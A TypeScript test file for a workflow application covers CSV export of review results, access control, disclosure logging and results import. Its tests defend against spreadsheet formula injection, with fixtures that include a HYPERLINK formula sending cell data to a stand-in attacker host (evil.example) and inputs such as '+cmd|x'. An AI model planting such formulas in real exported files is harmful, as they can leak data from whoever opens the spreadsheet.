import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { insertConnection } from '../../db/connections.ts';
import { inboxOf } from '../../db/tasks.ts';
import { runById } from '../../db/runs.ts';
import { tryCall } from '../../engine/calls.ts';
import { decide } from '../../engine/decide.ts';
import { turn } from '../../engine/turn.ts';
import { createCaller } from '../../server/connect/caller.ts';
import { csvCell, plainCell } from '../../server/csv-out.ts';
import { createTestApi, type TestApi } from '../helpers/api.ts';
import { publicUrl, testKeys } from '../helpers/app.ts';
import { launchFlow } from '../helpers/cycle.ts';
import { aFlow, after, who } from '../helpers/flows.ts';

let api: TestApi;
let cycle: string;

const flow = aFlow(
  [
    { id: 'begin', kind: 'start' },
    { id: 'each', kind: 'forEach', settings: { first: 'review' } },
    { id: 'finish', kind: 'end' },
    {
      id: 'review',
      kind: 'form',
      in: 'each',
      settings: {
        who: who({ who: 'manager' }),
        form: {
          fields: [
            { id: 'score', type: 'number', label: { en: 'Score' } },
            { id: 'words', type: 'longText', label: { en: 'Words' } },
          ],
        },
        visibility: { answers: { rules: [{ who: 'role', role: 'admin' }] }, fields: [{ fields: ['score'], who: who({ who: 'role', role: 'hr' }) }] },
      },
    },
    {
      id: 'keep',
      kind: 'record',
      in: 'each',
      settings: { does: 'write', type: 'rating', values: { score: { value: 'answer', step: 'review', field: 'score' } } },
    },
    {
      id: 'pay',
      kind: 'connect',
      in: 'each',
      settings: {
        connection: 'payroll',
        sends: { score: { value: 'answer', step: 'review', field: 'score' }, words: { value: 'answer', step: 'review', field: 'words' } },
        replies: { until: after(30, 'days') },
      },
    },
    { id: 'lost', kind: 'approval', in: 'each', settings: { who: who({ who: 'role', role: 'hr' }) } },
    { id: 'done', kind: 'end', in: 'each' },
  ],
  ['begin>each', 'each.done>finish', 'review.submitted>keep', 'keep>pay', 'pay.ok>done', 'pay.failed>lost', 'lost.approved>done', 'lost.rejected>done'],
  { records: { rating: { name: { en: 'Rating' }, fields: { score: { label: { en: 'Score' }, type: 'number' } } } } },
);

const formula = '=HYPERLINK("https://evil.example?"&A1)';

beforeAll(async () => {
  api = await createTestApi();
  const { engine, sql } = api;
  await sql.begin((tx) => insertConnection(tx, { name: 'payroll', kind: 'csv', url: null, openTo: ['hr'], by: 'admin' }));
  cycle = await launchFlow(engine, flow, { people: ['amy', 'ben'], real: true, owner: 'bob' });
  for (const [n, words] of [formula, 'Steady, "good"\nwork'].entries()) {
    const run = `${cycle}.each.${n + 1}`;
    const slot = (await inboxOf(sql, 'bob')).find(({ runId }) => runId === run)?.id ?? '';
    expect(await decide(engine, { slot, person: 'bob', outcome: 'submitted', values: { score: n + 3, words }, via: 'web' })).toMatchObject({ ok: true });
    await turn(engine, run);
    const [call] = await sql<{ key: string }[]>`select key from calls where run_id = ${run}`;
    await tryCall(engine, createCaller({ sql, webhook: testKeys.webhook, publicUrl, loopback: false }), call?.key ?? '');
  }
});
afterAll(() => api?.close());

async function fetched(as: string, path: string, body: unknown) {
  const answer = await api.request(path, {
    method: 'POST',
    cookie: await api.signIn(as),
    body: JSON.stringify(body),
    headers: { 'content-type': 'application/json' },
  });
  // As the bytes are: reading it as text would take the mark at the beginning off.
  return { status: answer.status, text: Buffer.from(await answer.arrayBuffer()).toString('utf8'), type: answer.headers.get('content-type') };
}
async function brought(csv: string, as = 'hr') {
  const answer = await api.request('/api/connections/payroll/results', {
    method: 'POST',
    cookie: await api.signIn(as),
    body: csv,
    headers: { 'content-type': 'text/csv' },
  });
  return { status: answer.status, body: (await answer.json()) as Record<string, unknown> };
}

describe('a cell that leaves the house', () => {
  test.each(['=1+1', '+cmd|x', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1', '＠x'])('never begins as a formula: %j', (text) => {
    const cell = csvCell(text);
    expect(cell.replace(/^"/, '')[0]).toBe("'");
    expect(plainCell(cell.startsWith('"') ? cell.slice(1, -1) : cell)).toBe(text);
  });
  test('stays as it is when it is a number or plain text', () => {
    expect(['-5', '+3.5', 'Amy', '陳', 12, null, true].map(csvCell)).toEqual(['-5', '+3.5', 'Amy', '陳', '12', '', 'true']);
    expect(csvCell('say "yes", no')).toBe('"say ""yes"", no"');
  });
});

describe('the results of a cycle', () => {
  const fields = ['person.id', 'person.department', 'run.status', 'answer.review.score', 'answer.review.words', 'record.rating.score', 'answer.review.outcome'];

  test('come as CSV in the chosen columns, of each answer what the asker may see; that they were exported is on file', async () => {
    const csv = await fetched('hr', `/api/cycles/${cycle}/results`, { fields });
    expect([csv.status, csv.type]).toEqual([200, 'text/csv; charset=utf-8']);
    expect(csv.text).toBe(`\uFEFF${fields.join(',')}\r\namy,Rooms,running,3,,3,\r\nben,Kitchen,running,4,,4,\r\n`);
    const whole = await fetched('admin', `/api/cycles/${cycle}/results`, { fields, format: 'json' });
    const rows = JSON.parse(whole.text) as Record<string, unknown>[];
    expect(rows.map((row) => row['answer.review.words'])).toEqual([formula, 'Steady, "good"\nwork']);
    const safe = await fetched('admin', `/api/cycles/${cycle}/results`, { fields: ['answer.review.words'] });
    expect(safe.text).toContain(`"'=HYPERLINK(""https://evil.example?""&A1)"`);
    const recipients = await api.sql<
      { recipient: string; type: string }[]
    >`select recipient, type from disclosures where person_id = 'amy' and recipient like 'export:%' order by id`;
    expect(recipients).toMatchObject([
      { recipient: 'export:hr', type: 'rating' },
      { recipient: 'export:admin', type: 'rating' },
    ]);
    expect(await api.sql`select by_id from journal_around where kind = 'disclosed' and cycle_id = ${cycle} order by n`).toMatchObject([
      { by_id: 'hr' },
      { by_id: 'admin' },
      { by_id: 'admin' },
    ]);
  });

  test('are for those who may see the cycle; what names no column is refused by its place', async () => {
    expect((await fetched('amy', `/api/cycles/${cycle}/results`, { fields })).status).toBe(403);
    const owner = await fetched('bob', `/api/cycles/${cycle}/results`, { fields: ['person.department', 'person.name', 'answer.review.score'] });
    expect(owner.text).toContain('\r\n,Amy,3\r\n');
    const wrong = await fetched('hr', `/api/cycles/${cycle}/results`, { fields: ['person.id', 'salary'] });
    expect([wrong.status, JSON.parse(wrong.text)]).toMatchObject([400, { error: { field: 'fields.1', came: 'salary' } }]);
    const offered = await api.ask<{ fields: string[] }>('hr', 'GET', `/api/cycles/${cycle}/results/fields`);
    expect(offered.body.fields).toEqual(expect.arrayContaining(['answer.review.score', 'record.rating.score', 'person.id']));
  });
});

describe('a file connection', () => {
  test('gathers a line for each call, and what comes back by its ids is the answer of each step, once', async () => {
    const file = await fetched('hr', '/api/connections/payroll/file', {});
    expect(file.status).toBe(200);
    const lines = file.text.replace('\uFEFF', '').split('\r\n');
    expect(lines[0]).toBe('n,id,person,at,score,words');
    const ids = [...file.text.matchAll(/msg_[\w-]+/g)].map(([id]) => id);
    expect(new Set(ids).size).toBe(2);
    expect((await fetched('bob', '/api/connections/payroll/file', {})).status).toBe(403);
    const answers = `id;number;grade;ok\n${ids[0]};E-17;007;yes\n${ids[1]};;;no\n`;
    expect(await brought(answers)).toEqual({ status: 200, body: { taken: 2, unchanged: 0 } });
    for (const n of [1, 2]) await turn(api.engine, `${cycle}.each.${n}`);
    expect((await runById(api.sql, `${cycle}.each.1`))?.status).toBe('ended');
    expect((await runById(api.sql, `${cycle}.each.2`))?.state.tokens.map(({ step }) => step)).toEqual(['lost']);
    const [given] = await api.sql<{ values: unknown }[]>`select values from answers where run_id = ${`${cycle}.each.1`} and step = 'pay'`;
    expect(given?.values).toEqual({ number: 'E-17', grade: '007' });
    expect(await brought(answers)).toEqual({ status: 200, body: { taken: 0, unchanged: 2 } });
  });

  test('takes nothing of a file in which something is wrong, and names line, column, what was expected and what came', async () => {
    const wrong = await brought('id,ok\nmsg_nowhere,perhaps\n');
    expect([wrong.status, wrong.body]).toMatchObject([
      409,
      {
        error: {
          code: 'importProblems',
          problems: [
            { line: 2, column: 'ok', came: 'perhaps', expected: 'yes or no' },
            { line: 2, column: 'id', came: 'msg_nowhere' },
          ],
        },
      },
    ]);
    expect((await brought('number\n1\n')).body).toMatchObject({ error: { problems: [{ line: 1, column: 'id' }] } });
  });
});
